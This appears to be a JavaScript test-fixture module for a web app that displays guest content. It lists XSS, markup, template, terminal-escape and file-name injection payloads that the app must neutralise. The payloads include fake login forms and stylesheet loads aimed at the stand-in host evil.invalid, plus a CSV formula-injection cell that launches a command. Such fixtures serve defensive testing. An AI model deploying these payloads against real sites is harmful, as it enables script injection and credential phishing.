// What guests may make to run something in the page, or to look like a part of it. None of it may.

/** What a payload does if it runs. */
const DO = "window.__owned=1";

/** Texts for console lines, errors, file contents, results, commands. */
export const texts = [
    `<script>${DO}</script>`,
    `<ScRiPt>${DO}</sCrIpT>`,
    `</pre><script>${DO}</script>`,
    `</textarea><script>${DO}</script>`,
    `</title><script>${DO}</script>`,
    `<img src=x onerror=${DO}>`,
    `<img src="x" onerror="${DO}" style="position:fixed;inset:0">`,
    `<svg onload=${DO}>`,
    `<svg><script>${DO}</script></svg>`,
    `<svg><animate onbegin=${DO} attributeName=x dur=1s>`,
    `<body onload=${DO}>`,
    `<iframe srcdoc="<script>parent.__owned=1</script>"></iframe>`,
    `<iframe src="javascript:parent.__owned=1"></iframe>`,
    `<object data="javascript:${DO}"></object>`,
    `<embed src="data:text/html,<script>opener.__owned=1</script>">`,
    `<a href="javascript:${DO}" id=trap>click</a>`,
    `[click](javascript:${DO})`,
    `![x](x" onerror="${DO})`,
    `<details open ontoggle=${DO}>`,
    `<video><source onerror=${DO}></video>`,
    `<input autofocus onfocus=${DO}>`,
    `<style>@import "http://evil.invalid/x.css"; .bar{display:none}</style>`,
    `<link rel=stylesheet href="http://evil.invalid/x.css">`,
    `<meta http-equiv=refresh content="0;url=http://evil.invalid/">`,
    `<base href="http://evil.invalid/">`,
    `<form action="http://evil.invalid/"><button id=key>Log in</button></form>`,
    `<dialog open style="position:fixed;inset:0">Your key, please: <input id=key></dialog>`,
    `<template shadowrootmode=open><script>${DO}</script></template>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${DO}>`,
    `<noscript><p title="</noscript><img src=x onerror=${DO}>">`,
    `{{constructor.constructor('${DO}')()}}`,
    `\${${DO}}`,
    `"><img src=x onerror=${DO}>`,
    `' onmouseover='${DO}`,
    `\`-${DO}-\``,
    `\u2028</script><script>${DO}</script>`,
    `\u202e<script>${DO}</script>`,
    `%3Cscript%3E${DO}%3C/script%3E`,
    `&lt;script&gt;${DO}&lt;/script&gt;`,
    `data:text/html,<script>${DO}</script>`,
    `__proto__`,
    `{"__html": "<script>${DO}</script>"}`,
    `{"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=${DO}>"}}`,
];

/** Names of files: everything above that can be one. */
export const names = [
    ...texts.filter((text) => !text.includes("/")).map((text) => text.slice(0, 120)),
    `<img src=x onerror=${DO}>.png`,
    `javascript:${DO}.html`,
    `x" onclick="${DO}".txt`,
    "line\nbreak.txt",
    "-rf",
    "\u202egnp.exe",
];

/** What a program may write to a terminal. */
export const terminal = [
    "\x1b]0;<script>window.__owned=1</script>\x07",
    "\x1b]8;;javascript:window.__owned=1\x1b\\click me\x1b]8;;\x1b\\",
    "\x1b]52;c;d2luZG93Ll9fb3duZWQ9MQ==\x07",
    "\x1b[8;500;500t",
    "\x1b[?1003h",
    "\x1bP+q544e\x1b\\",
    "\x1b]50;CursorShape=1\x07",
    "<img src=x onerror=window.__owned=1>",
    "\x1b[38;2;176;0;0mred\x1b[0m",
];

/** A page that wants to be more than a picture: its title, its address, and what it asks when it is clicked. */
export const page = `<!doctype html><title><img src=x onerror=${DO}></title><body style="margin:0;height:100vh"
    onclick="window.answer=prompt('<img src=x onerror=${DO}>')"><script>${DO};try{parent.__owned=1;opener.__owned=1}catch{}</script><h1>Cove</h1>Log in again: <input>`;

/** Files that a browser could take for something that runs. */
export const files = [
    ["page.html", `<!doctype html><script>${DO};parent.__owned=1</script><h1>hello</h1>`],
    ["picture.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="${DO}"><script>${DO};parent.__owned=1</script></svg>`],
    ["notes.md", `# x\n<script>${DO}</script>\n[a](javascript:${DO})\n<img src=x onerror=${DO}>`],
    ["table.csv", `name,<script>${DO}</script>\n"<img src=x onerror=${DO}>","=cmd|' /C calc'!A0"\n`],
    ["picture.png", `<svg xmlns="http://www.w3.org/2000/svg" onload="${DO}"/>`],
    ["code.js", `</script><script>${DO}</script>`],
];
